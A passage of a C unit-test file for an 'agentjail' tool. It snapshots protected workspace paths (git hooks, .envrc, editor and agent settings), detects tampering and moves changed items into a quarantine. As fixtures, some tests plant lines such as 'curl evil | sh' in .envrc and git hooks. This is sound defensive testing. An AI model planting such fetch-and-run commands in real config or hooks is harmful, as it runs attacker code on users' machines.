/* Tests for core/jail/snapshot: SHA-256, snapshots of protected paths and the quarantine. Every
 * test works in its own mkdtemp directory: <root>/ws is the workspace, <root>/state/quarantine the
 * quarantine (not created beforehand: snapshot_check must create it). */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "core/jail/snapshot.h"
#include "util/sha256.h"
#include "util/strv.h"
#include "testutil.h"

struct fx {
	char root[PATH_MAX];
	char ws[PATH_MAX];
	char q[PATH_MAX];
	char shm[PATH_MAX]; /* a directory on /dev/shm when a test made one, else "" */
};

static void rm_rf(const char *path)
{
	if (path[0])
		(void)test_rm_tree(path);
}

/* a + b in a ring of buffers, length checked (so a test can hold a few paths at once) */
static const char *J(const char *a, const char *b)
{
	static char ring[32][PATH_MAX];
	static unsigned next;
	char *buf = ring[next++ % 32];
	size_t la = strlen(a), lb = strlen(b);
	assert_true(la + lb < PATH_MAX);
	memcpy(buf, a, la);
	memcpy(buf + la, b, lb + 1);
	return buf;
}

static int setup(void **state)
{
	struct fx *f = calloc(1, sizeof *f);
	if (!f)
		return -1;
	snprintf(f->root, sizeof f->root, "/tmp/agentjail-snap-XXXXXX");
	if (!mkdtemp(f->root))
		return -1;
	strcpy(f->ws, J(f->root, "/ws"));
	strcpy(f->q, J(f->root, "/state/quarantine"));
	if (mkdir(f->ws, 0755) < 0)
		return -1;
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fx *f = *state;
	rm_rf(f->root);
	rm_rf(f->shm);
	free(f);
	return 0;
}

/* A path below the workspace, or below the test's root. */
static const char *W(const struct fx *f, const char *rel) { return J(J(f->ws, "/"), rel); }
static const char *R(const struct fx *f, const char *rel) { return J(J(f->root, "/"), rel); }

static void mkdir_p(const char *path)
{
	char buf[PATH_MAX];
	strcpy(buf, J(path, ""));
	for (char *p = buf + 1; *p; p++) {
		if (*p != '/')
			continue;
		*p = '\0';
		assert_true(mkdir(buf, 0755) == 0 || errno == EEXIST);
		*p = '/';
	}
	assert_true(mkdir(buf, 0755) == 0 || errno == EEXIST);
}

static void write_file(const char *path, const char *content, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, content, strlen(content)), (ssize_t)strlen(content));
	assert_int_equal(fchmod(fd, mode), 0);
	assert_int_equal(close(fd), 0);
}

static const char *read_file(const char *path)
{
	static char buf[4096];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	assert_true(fd >= 0);
	ssize_t n = read(fd, buf, sizeof buf - 1);
	assert_true(n >= 0);
	buf[n] = '\0';
	close(fd);
	return buf;
}

static bool exists(const char *path)
{
	struct stat st;
	return lstat(path, &st) == 0;
}

static mode_t mode_of(const char *path)
{
	struct stat st;
	assert_int_equal(lstat(path, &st), 0);
	return st.st_mode;
}

/* The usual protected set of a workspace, rooted in f->ws. */
static const char *const protected_set[] = {
	".git", ".git/hooks", ".git/config", ".envrc", ".vscode", ".claude/settings.json",
	".mcp.json", ".idea", NULL,
};

static void make_workspace(const struct fx *f)
{
	mkdir_p(W(f, ".git/hooks"));
	mkdir_p(W(f, ".git/objects/00"));
	write_file(W(f, ".git/HEAD"), "ref: refs/heads/main\n", 0644);
	write_file(W(f, ".git/config"), "[core]\n\tbare = false\n", 0644);
	write_file(W(f, ".git/hooks/pre-commit.sample"), "#!/bin/sh\nexit 0\n", 0755);
	write_file(W(f, ".envrc"), "export A=1\n", 0644);
	mkdir_p(W(f, ".vscode"));
	write_file(W(f, ".vscode/settings.json"), "{}\n", 0644);
	mkdir_p(W(f, ".claude"));
	write_file(W(f, ".claude/settings.json"), "{\"hooks\":{}}\n", 0644);
}

static void take(const struct fx *f, const char *const *rels, struct snapshot *s)
{
	struct strv paths = STRV_INIT;
	for (; *rels; rels++)
		strv_push(&paths, W(f, *rels));
	struct err e = {0};
	int r = snapshot_take(&paths, s, &e);
	strv_free(&paths);
	if (r < 0)
		fail_msg("snapshot_take: %s: %s", e.what, e.path);
}

static void check(const struct fx *f, const struct snapshot *s, const char *qdir,
		  struct violations *v)
{
	struct err e = {0};
	if (snapshot_check(s, qdir ? qdir : f->q, v, &e) < 0)
		fail_msg("snapshot_check: %s: %s", e.what, e.path);
}

static const struct violation *find(const struct violations *v, const char *path)
{
	for (size_t i = 0; i < v->n; i++)
		if (strcmp(v->v[i].path, path) == 0)
			return &v->v[i];
	return NULL;
}

/* ----------------------------------------------------------------------------------------------
 * SHA-256
 */

static void hex(const uint8_t d[32], char out[65])
{
	for (unsigned i = 0; i < 32; i++)
		snprintf(out + 2 * i, 3, "%02x", d[i]);
}

static void assert_sha(const void *data, size_t n, const char *want)
{
	struct sha256 c;
	uint8_t d[32];
	char got[65];
	sha256_init(&c);
	sha256_update(&c, data, n);
	sha256_final(&c, d);
	hex(d, got);
	assert_string_equal(got, want);
}

static void test_sha256_vectors(void **state)
{
	(void)state;
	assert_sha("", 0, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
	assert_sha("abc", 3, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
	const char *m448 = "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq";
	assert_sha(m448, strlen(m448),
		   "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
	const char *m896 = "abcdefghbcdefghicdefghijdefghijkefghijklfghijklmghijklmnhijklmno"
			   "ijklmnopjklmnopqklmnopqrlmnopqrsmnopqrstnopqrstu";
	assert_sha(m896, strlen(m896),
		   "cf5b16a778af8380036ce59e7b0492370b249b11e8f07a51afac45037afee9d1");
}

/* One million 'a', fed in uneven pieces so every buffering path of sha256_update is taken. */
static void test_sha256_million_a(void **state)
{
	(void)state;
	static uint8_t a[1000];
	memset(a, 'a', sizeof a);
	struct sha256 c;
	uint8_t d[32];
	char got[65];
	sha256_init(&c);
	size_t left = 1000000;
	for (size_t piece = 1; left; piece = piece % 997 + 1) {
		size_t n = piece < left ? piece : left;
		sha256_update(&c, a, n);
		left -= n;
	}
	sha256_final(&c, d);
	hex(d, got);
	assert_string_equal(got,
			    "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");
}

/* ----------------------------------------------------------------------------------------------
 * Snapshots and checks
 */

static void test_unchanged_tree(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
	assert_int_equal(s.n, 8);
	assert_true(s.e[0].exists);   /* .git */
	assert_false(s.e[6].exists);  /* .mcp.json */
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 0);
	assert_false(exists(f->q)); /* nothing to move: no quarantine made */
	violations_free(&v);
	snapshot_free(&s);
}

static void test_file_changed(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
	write_file(W(f, ".envrc"), "curl evil | sh\n", 0644); /* O_TRUNC: same inode */
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 1);
	assert_string_equal(v.v[0].path, W(f, ".envrc"));
	assert_string_equal(v.v[0].what, "changed");
	assert_non_null(v.v[0].moved_to);
	assert_string_equal(read_file(v.v[0].moved_to), "curl evil | sh\n");
	assert_false(exists(W(f, ".envrc")));
	violations_free(&v);
	snapshot_free(&s);
}

static void test_mode_changed(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	write_file(W(f, ".git/hooks/post-checkout"), "#!/bin/sh\n", 0644);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
	assert_int_equal(chmod(W(f, ".git/hooks/post-checkout"), 0755), 0);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 1);
	assert_string_equal(v.v[0].path, W(f, ".git/hooks"));
	assert_string_equal(v.v[0].what, "changed");
	violations_free(&v);
	snapshot_free(&s);
}

static void test_file_replaced_by_identical_copy(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
	write_file(W(f, ".git/config.new"), "[core]\n\tbare = false\n", 0644);
	assert_int_equal(rename(W(f, ".git/config.new"), W(f, ".git/config")), 0);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 1);
	assert_string_equal(v.v[0].path, W(f, ".git/config"));
	assert_string_equal(v.v[0].what, "replaced");
	assert_non_null(v.v[0].moved_to);
	assert_false(exists(W(f, ".git/config")));
	violations_free(&v);
	snapshot_free(&s);
}

static void test_new_file_appeared(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
	write_file(W(f, ".mcp.json"), "{\"mcpServers\":{\"x\":{}}}\n", 0600);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 1);
	assert_string_equal(v.v[0].what, "appeared");
	assert_non_null(v.v[0].moved_to);
	assert_string_equal(read_file(v.v[0].moved_to), "{\"mcpServers\":{\"x\":{}}}\n");
	assert_int_equal(mode_of(v.v[0].moved_to) & 07777, 0600);
	assert_false(exists(W(f, ".mcp.json")));
	violations_free(&v);
	snapshot_free(&s);
}

static void test_new_hook_moves_whole_dir(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
	write_file(W(f, ".git/hooks/post-checkout"), "#!/bin/sh\ncurl evil\n", 0755);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 1);
	assert_string_equal(v.v[0].path, W(f, ".git/hooks"));
	assert_string_equal(v.v[0].what, "changed");
	const char *to = v.v[0].moved_to;
	assert_non_null(to);
	assert_true(S_ISDIR(mode_of(to)));
	assert_string_equal(read_file(J(to, "/post-checkout")), "#!/bin/sh\ncurl evil\n");
	assert_true(exists(J(to, "/pre-commit.sample")));
	assert_false(exists(W(f, ".git/hooks")));
	assert_true(exists(W(f, ".git/HEAD"))); /* .git itself stays */
	violations_free(&v);
	snapshot_free(&s);
}

static void test_symlink_retargeted(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	assert_int_equal(unlink(W(f, ".envrc")), 0);
	assert_int_equal(symlink("envrc.a", W(f, ".envrc")), 0);
	assert_int_equal(symlink("a.json", W(f, ".vscode/link")), 0);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
	assert_int_equal(s.e[3].type, S_IFLNK);
	/* made before the old one goes, so it cannot reuse its inode number */
	assert_int_equal(symlink("envrc.b", W(f, ".envrc.new")), 0);
	assert_int_equal(rename(W(f, ".envrc.new"), W(f, ".envrc")), 0);
	/* inside a directory: the directory changed */
	assert_int_equal(unlink(W(f, ".vscode/link")), 0);
	assert_int_equal(symlink("b.json", W(f, ".vscode/link")), 0);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 2);
	const struct violation *env = find(&v, W(f, ".envrc"));
	assert_non_null(env);
	assert_string_equal(env->what, "replaced");
	assert_true(S_ISLNK(mode_of(env->moved_to)));
	char target[64] = {0};
	assert_int_equal(readlink(env->moved_to, target, sizeof target - 1), 7);
	assert_string_equal(target, "envrc.b");
	const struct violation *vs = find(&v, W(f, ".vscode"));
	assert_non_null(vs);
	assert_string_equal(vs->what, "changed");
	violations_free(&v);
	snapshot_free(&s);
}

static void test_removed_path(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
	assert_int_equal(unlink(W(f, ".envrc")), 0);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 1);
	assert_string_equal(v.v[0].what, "removed");
	assert_null(v.v[0].moved_to);
	assert_false(exists(f->q));
	violations_free(&v);
	snapshot_free(&s);
}

static void test_git_dir_became_file(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
	assert_int_equal(rename(W(f, ".git"), R(f, "old-git")), 0);
	write_file(W(f, ".git"), "gitdir: /tmp/evil\n", 0644);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 3);
	const struct violation *g = find(&v, W(f, ".git"));
	assert_non_null(g);
	assert_string_equal(g->what, ".git changed kind");
	assert_non_null(g->moved_to);
	assert_string_equal(read_file(g->moved_to), "gitdir: /tmp/evil\n");
	assert_false(exists(W(f, ".git")));
	/* below a file, hooks and config no longer exist */
	assert_string_equal(find(&v, W(f, ".git/hooks"))->what, "removed");
	assert_string_equal(find(&v, W(f, ".git/config"))->what, "removed");
	violations_free(&v);
	snapshot_free(&s);
}

static void test_git_dir_became_symlink(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	const char *only_git[] = {".git", NULL};
	struct snapshot s;
	struct violations v;
	take(f, only_git, &s);
	assert_int_equal(rename(W(f, ".git"), R(f, "old-git")), 0);
	assert_int_equal(symlink(R(f, "old-git"), W(f, ".git")), 0);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 1);
	assert_string_equal(v.v[0].what, ".git changed kind");
	assert_true(S_ISLNK(mode_of(v.v[0].moved_to)));
	assert_true(exists(R(f, "old-git/HEAD"))); /* the link moved, not what it points to */
	violations_free(&v);
	snapshot_free(&s);
}

static void test_git_contents_changed_is_fine(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
	mkdir_p(W(f, ".git/objects/ab"));
	write_file(W(f, ".git/objects/ab/cdef0123"), "blob", 0444);
	write_file(W(f, ".git/HEAD"), "ref: refs/heads/other\n", 0644);
	write_file(W(f, ".git/index"), "DIRC", 0644);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 0);
	violations_free(&v);
	snapshot_free(&s);
}

static void test_git_file_pointer_changed(void **state)
{
	struct fx *f = *state;
	write_file(W(f, ".git"), "gitdir: ../main/.git/worktrees/ws\n", 0644);
	const char *set[] = {".git", ".git/hooks", NULL};
	struct snapshot s;
	struct violations v;
	take(f, set, &s);
	assert_false(s.e[1].exists); /* below a file: absent, not an error */
	write_file(W(f, ".git"), "gitdir: /tmp/evil\n", 0644);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 1);
	assert_string_equal(v.v[0].what, "changed");
	violations_free(&v);
	snapshot_free(&s);
}

/* `mv .git .git-old` and a rebuilt .git: .git is replaced and moved, its hooks go with it. */
static void test_git_rebuilt_moves_once(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
	assert_int_equal(rename(W(f, ".git"), W(f, ".git-old")), 0);
	mkdir_p(W(f, ".git/hooks"));
	write_file(W(f, ".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n", 0755);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 3);
	const struct violation *g = find(&v, W(f, ".git"));
	const struct violation *h = find(&v, W(f, ".git/hooks"));
	const struct violation *c = find(&v, W(f, ".git/config"));
	assert_string_equal(g->what, "replaced");
	assert_string_equal(h->what, "replaced");
	assert_string_equal(c->what, "removed");
	assert_null(c->moved_to);
	assert_string_equal(h->moved_to, J(g->moved_to, "/hooks"));
	assert_string_equal(read_file(J(h->moved_to, "/pre-commit")), "#!/bin/sh\ncurl evil\n");
	assert_false(exists(W(f, ".git")));
	assert_true(exists(W(f, ".git-old/hooks/pre-commit.sample")));
	violations_free(&v);
	snapshot_free(&s);
}

static void test_quarantine_layout(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
	write_file(W(f, ".claude/settings.json"), "{\"hooks\":{\"Stop\":[]}}\n", 0644);
	time_t t0 = time(NULL);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 1);
	const char *to = v.v[0].moved_to;
	assert_non_null(to);
	/* <q>/<YYYYmmddTHHMMSSZ>-<pid>/<path without its leading slash> */
	size_t ql = strlen(f->q);
	assert_memory_equal(to, f->q, ql);
	assert_int_equal(to[ql], '/');
	struct tm tm = {0};
	const char *rest = strptime(to + ql + 1, "%Y%m%dT%H%M%SZ", &tm);
	assert_non_null(rest);
	time_t stamp = timegm(&tm);
	assert_true(stamp >= t0 - 1 && stamp <= time(NULL) + 1);
	char pid[32];
	snprintf(pid, sizeof pid, "-%d", (int)getpid());
	assert_string_equal(rest, J(pid, W(f, ".claude/settings.json")));
	/* every directory agentjail made, from state/ down to the parent of the entry, is 0700 */
	char dir[PATH_MAX];
	strcpy(dir, to);
	for (;;) {
		*strrchr(dir, '/') = '\0';
		if (strlen(dir) <= strlen(f->root))
			break;
		if (!S_ISDIR(mode_of(dir)) || (mode_of(dir) & 07777) != 0700)
			fail_msg("%s: mode %o, want a directory with 0700", dir, mode_of(dir));
	}
	violations_free(&v);
	snapshot_free(&s);
}

/* Two checks within one second get two quarantine directories: nothing is overwritten. */
static void test_two_checks_same_second(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	const char *set[] = {".envrc", NULL};
	struct snapshot s1, s2;
	struct violations v1, v2;
	take(f, set, &s1);
	write_file(W(f, ".envrc"), "one\n", 0644);
	check(f, &s1, NULL, &v1);
	take(f, set, &s2);
	write_file(W(f, ".envrc"), "two\n", 0644);
	check(f, &s2, NULL, &v2);
	assert_int_equal(v1.n, 1);
	assert_int_equal(v2.n, 1);
	assert_string_equal(v1.v[0].what, "changed");
	assert_string_equal(v2.v[0].what, "appeared");
	assert_string_not_equal(v1.v[0].moved_to, v2.v[0].moved_to);
	assert_string_equal(read_file(v1.v[0].moved_to), "one\n");
	assert_string_equal(read_file(v2.v[0].moved_to), "two\n");
	violations_free(&v1);
	violations_free(&v2);
	snapshot_free(&s1);
	snapshot_free(&s2);
}

/* A link inside a protected directory is hashed as a link: what it points to does not count. */
static void test_symlink_in_dir_not_followed(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	mkdir_p(R(f, "outside"));
	write_file(R(f, "outside/file"), "v1\n", 0644);
	assert_int_equal(symlink(R(f, "outside/file"), W(f, ".vscode/link")), 0);
	assert_int_equal(symlink(R(f, "outside"), W(f, ".vscode/dirlink")), 0);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
	write_file(R(f, "outside/file"), "v2, much longer than before\n", 0644);
	write_file(R(f, "outside/new"), "x\n", 0644);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 0);
	violations_free(&v);
	snapshot_free(&s);
}

/* A parent swapped for a symlink: the path resolves outside the tree. The symlink is moved
 * aside; what it points to (here "the user's own settings") is never touched. */
static void test_planted_parent_symlink(void **state)
{
	struct fx *f = *state;
	mkdir_p(R(f, "home/.claude"));
	write_file(R(f, "home/.claude/settings.json"), "{\"mine\":1}\n", 0644);
	const char *set[] = {".claude/settings.json", ".claude/commands", NULL};
	struct snapshot s;
	struct violations v;
	take(f, set, &s);
	assert_false(s.e[0].exists);
	assert_int_equal(symlink(R(f, "home/.claude"), W(f, ".claude")), 0);
	mkdir_p(R(f, "home/.claude/commands"));
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 2);
	const char *want = J(J("appeared (through a symlink planted at ", W(f, ".claude")), ")");
	assert_string_equal(v.v[0].what, want);
	assert_string_equal(v.v[1].what, want);
	/* both name the link itself, moved once to <stamp>/<ws>/.claude */
	assert_non_null(v.v[0].moved_to);
	assert_string_equal(v.v[0].moved_to, v.v[1].moved_to);
	assert_true(S_ISLNK(mode_of(v.v[0].moved_to)));
	size_t len = strlen(v.v[0].moved_to), tail = strlen(W(f, ".claude"));
	assert_string_equal(v.v[0].moved_to + len - tail, W(f, ".claude"));
	assert_false(exists(W(f, ".claude")));
	assert_string_equal(read_file(R(f, "home/.claude/settings.json")), "{\"mine\":1}\n");
	assert_true(exists(R(f, "home/.claude/commands")));
	violations_free(&v);
	snapshot_free(&s);
}

/* Ancestors are looked at once a pass (snapshot.c's anc_memo): below a missing one nothing is
 * asked, and the next pass looks again. Taken with .claude and .gemini missing; then .claude
 * is a file (nothing can be below it) and .gemini a directory with settings.json in it: the
 * check, a pass of its own, sees the latter appear and nothing below the file. */
static void test_ancestors_once_a_pass(void **state)
{
	struct fx *f = *state;
	const char *set[] = {".claude/settings.json", ".claude/commands", ".gemini/settings.json",
			     ".gemini/commands/x", NULL};
	struct snapshot s;
	struct violations v;
	take(f, set, &s);
	for (size_t i = 0; i < s.n; i++)
		assert_false(s.e[i].exists);
	assert_false(s.e[3].anc[s.e[3].nanc - 1].exists); /* .gemini/commands: below a missing one */
	write_file(W(f, ".claude"), "not a directory\n", 0644);
	mkdir_p(W(f, ".gemini"));
	write_file(W(f, ".gemini/settings.json"), "{}\n", 0644);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 1);
	assert_string_equal(v.v[0].path, W(f, ".gemini/settings.json"));
	assert_string_equal(v.v[0].what, "appeared");
	assert_false(exists(W(f, ".gemini/settings.json")));
	assert_true(exists(W(f, ".claude")));
	violations_free(&v);
	snapshot_free(&s);
}

/* When moving fails, the violation says so and the original stays; the check still returns 0. */
static void test_move_failure_reported(void **state)
{
	struct fx *f = *state;
	make_workspace(f);
	mkdir_p(R(f, "state"));
	write_file(f->q, "not a directory", 0644);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
	write_file(W(f, ".envrc"), "changed\n", 0644);
	write_file(W(f, ".mcp.json"), "{}\n", 0644);
	check(f, &s, NULL, &v);
	assert_int_equal(v.n, 2);
	for (size_t i = 0; i < v.n; i++) {
		assert_null(v.v[i].moved_to);
		assert_non_null(strstr(v.v[i].what, " (could not move: "));
	}
	assert_true(strncmp(find(&v, W(f, ".envrc"))->what, "changed (", 9) == 0);
	assert_string_equal(read_file(W(f, ".envrc")), "changed\n");
	assert_true(exists(W(f, ".mcp.json")));
	violations_free(&v);
	snapshot_free(&s);
}

static void test_depth_limit(void **state)
{
	struct fx *f = *state;
	char deep[PATH_MAX];
	strcpy(deep, W(f, ".vscode"));
	for (int i = 0; i < 70; i++)
		strcat(deep, "/d");
	mkdir_p(deep);
	struct strv paths = STRV_INIT;
	strv_push(&paths, W(f, ".vscode"));
	struct snapshot s;
	struct err e = {0};
	assert_int_equal(snapshot_take(&paths, &s, &e), -1);
	assert_int_equal(s.n, 0);
	assert_non_null(strstr(e.what, "deeper than 64"));
	assert_true(strncmp(e.path, W(f, ".vscode/d/d/d"), strlen(W(f, ".vscode/d/d/d"))) == 0);
	strv_free(&paths);
}

static void test_entry_limit(void **state)
{
	struct fx *f = *state;
	/* tmpfs when there is one: 100,001 files are created for this */
	char base[PATH_MAX];
	snprintf(f->shm, sizeof f->shm, "/dev/shm/agentjail-snap-XXXXXX");
	if (!mkdtemp(f->shm)) {
		f->shm[0] = '\0';
		strcpy(base, W(f, ".idea"));
	} else {
		strcpy(base, J(f->shm, "/.idea"));
	}
	mkdir_p(base);
	int dfd = open(base, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	assert_true(dfd >= 0);
	for (int i = 0; i <= 100000; i++) {
		char name[16];
		snprintf(name, sizeof name, "%d", i);
		int fd = openat(dfd, name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
		assert_true(fd >= 0);
		close(fd);
	}
	close(dfd);
	struct strv paths = STRV_INIT;
	strv_push(&paths, base);
	struct snapshot s;
	struct err e = {0};
	assert_int_equal(snapshot_take(&paths, &s, &e), -1);
	assert_non_null(strstr(e.what, "more than 100000 entries"));
	assert_string_equal(e.path, base);
	strv_free(&paths);
}

static void test_relative_path_rejected(void **state)
{
	(void)state;
	struct strv paths = STRV_INIT;
	strv_push(&paths, "ws/.envrc");
	struct snapshot s;
	struct err e = {0};
	assert_int_equal(snapshot_take(&paths, &s, &e), -1);
	assert_int_equal(e.errnum, EINVAL);
	assert_string_equal(e.path, "ws/.envrc");
	strv_free(&paths);
}

/* ----------------------------------------------------------------------------------------------
 * Copy across filesystems (the EXDEV fallback)
 */

static bool other_fs(const char *a, const char *b)
{
	struct stat sa, sb;
	return stat(a, &sa) == 0 && stat(b, &sb) == 0 && sa.st_dev != sb.st_dev;
}

/* A directory for copies: on /dev/shm when it is another filesystem, else in root. */
static const char *copy_area(struct fx *f)
{
	static char buf[PATH_MAX];
	snprintf(f->shm, sizeof f->shm, "/dev/shm/agentjail-snap-XXXXXX");
	if (other_fs("/dev/shm", f->root) && mkdtemp(f->shm))
		return f->shm;
	f->shm[0] = '\0';
	strcpy(buf, R(f, "copies"));
	mkdir_p(buf);
	return buf;
}

static void test_copy_tree(void **state)
{
	struct fx *f = *state;
	const char *src = R(f, "src");
	mkdir_p(R(f, "src/sub/deeper"));
	write_file(R(f, "src/data"), "data\n", 0640);
	write_file(R(f, "src/run"), "#!/bin/sh\n", 0755);
	write_file(R(f, "src/suid"), "#!/bin/sh\n", 04755);
	write_file(R(f, "src/sub/deeper/x"), "x\n", 0600);
	assert_int_equal(chmod(R(f, "src/sub"), 0750), 0);
	assert_int_equal(symlink("/etc/passwd", R(f, "src/link")), 0);
	assert_int_equal(symlink("nowhere", R(f, "src/dangling")), 0);
	assert_int_equal(mkfifo(R(f, "src/fifo"), 0640), 0);
	char dst[PATH_MAX];
	strcpy(dst, J(copy_area(f), "/copy"));
	struct err e = {0};
	if (move_aside_copy(src, dst, &e) < 0)
		fail_msg("move_aside_copy: %s: %s: %s", e.what, e.path, strerror(e.errnum));
	assert_false(exists(src));
#define AT(rel) J(J(dst, "/"), rel)
	assert_string_equal(read_file(AT("data")), "data\n");
	assert_int_equal(mode_of(AT("data")) & 07777, 0640);
	assert_int_equal(mode_of(AT("run")) & 07777, 0755);
	assert_int_equal(mode_of(AT("suid")) & 07777, 0755); /* setuid dropped */
	assert_int_equal(mode_of(AT("sub")) & 07777, 0750);
	assert_string_equal(read_file(AT("sub/deeper/x")), "x\n");
	assert_true(S_ISLNK(mode_of(AT("link"))));
	char target[64] = {0};
	assert_int_equal(readlink(AT("link"), target, sizeof target - 1), 11);
	assert_string_equal(target, "/etc/passwd");
	assert_true(S_ISLNK(mode_of(AT("dangling"))));
	assert_true(S_ISFIFO(mode_of(AT("fifo"))));
#undef AT
}

/* A sparse file keeps its holes in the copy: 1 GiB apparent, a few blocks of data. */
static void test_copy_keeps_holes(void **state)
{
	struct fx *f = *state;
	const char *area = copy_area(f);
	const char *src = R(f, "sparse");
	int fd = open(src, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	assert_true(fd >= 0);
	assert_int_equal(pwrite(fd, "head", 4, 0), 4);
	assert_int_equal(pwrite(fd, "middle", 6, (off_t)512 << 20), 6);
	assert_int_equal(ftruncate(fd, (off_t)1 << 30), 0);
	close(fd);
	char dst[PATH_MAX];
	strcpy(dst, J(area, "/copy"));
	struct err e = {0};
	if (move_aside_copy(src, dst, &e) < 0)
		fail_msg("move_aside_copy: %s: %s: %s", e.what, e.path, strerror(e.errnum));
	struct stat st;
	assert_int_equal(stat(dst, &st), 0);
	assert_int_equal(st.st_size, (off_t)1 << 30);
	assert_true(st.st_blocks * 512 < (1 << 20)); /* not 1 GiB of blocks */
	char buf[8] = {0};
	fd = open(dst, O_RDONLY | O_CLOEXEC);
	assert_int_equal(pread(fd, buf, 4, 0), 4);
	assert_string_equal(buf, "head");
	assert_int_equal(pread(fd, buf, 6, (off_t)512 << 20), 6);
	assert_memory_equal(buf, "middle", 6);
	assert_int_equal(pread(fd, buf, 4, 4096), 4);
	assert_memory_equal(buf, "\0\0\0\0", 4);
	close(fd);
	assert_false(exists(src));
}

/* More than the cap of data: nothing is copied, the item is renamed in place (never deleted) and
 * the error says where it is. */
static void test_copy_cap_renames_in_place(void **state)
{
	struct fx *f = *state;
	const char *area = copy_area(f);
	mkdir_p(R(f, "big"));
	const char *src = R(f, "big/.envrc");
	int fd = open(src, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	assert_true(fd >= 0);
	static char chunk[1 << 20];
	memset(chunk, 'x', sizeof chunk);
	for (int i = 0; i < 65; i++)
		assert_int_equal(write(fd, chunk, sizeof chunk), (ssize_t)sizeof chunk);
	close(fd);
	char dst[PATH_MAX];
	strcpy(dst, J(area, "/copy"));
	struct err e = {0};
	assert_int_equal(move_aside_copy(src, dst, &e), -1);
	assert_int_equal(e.errnum, EFBIG);
	assert_non_null(strstr(e.what, "renamed in place to"));
	assert_false(exists(dst));
	assert_false(exists(src));
	char moved[PATH_MAX];
	snprintf(moved, sizeof moved, "%s.agentjail-too-large-%d", src, (int)getpid());
	assert_non_null(strstr(e.what, moved));
	struct stat st;
	assert_int_equal(stat(moved, &st), 0);
	assert_int_equal(st.st_size, (off_t)65 << 20);
}

/* The destination exists: nothing is copied over it, nothing is removed, source intact. */
static void test_copy_refuses_existing_destination(void **state)
{
	struct fx *f = *state;
	mkdir_p(R(f, "src"));
	write_file(R(f, "src/a"), "a\n", 0644);
	char dst[PATH_MAX];
	strcpy(dst, J(copy_area(f), "/copy"));
	mkdir_p(dst);
	char keep[PATH_MAX];
	strcpy(keep, J(dst, "/keep"));
	write_file(keep, "k\n", 0644);
	struct err e = {0};
	assert_int_equal(move_aside_copy(R(f, "src"), dst, &e), -1);
	assert_int_equal(e.errnum, EEXIST);
	assert_string_equal(read_file(R(f, "src/a")), "a\n");
	assert_string_equal(read_file(keep), "k\n");
}

/* snapshot_check with the quarantine on another filesystem: moves go through the copy; a copy
 * that cannot be completed (too deep) leaves the original and removes the partial copy, and the
 * other violations are still moved. */
static void test_check_across_filesystems(void **state)
{
	struct fx *f = *state;
	const char *area = copy_area(f);
	if (!f->shm[0])
		skip();
	make_workspace(f);
	struct snapshot s;
	struct violations v;
	take(f, protected_set, &s);
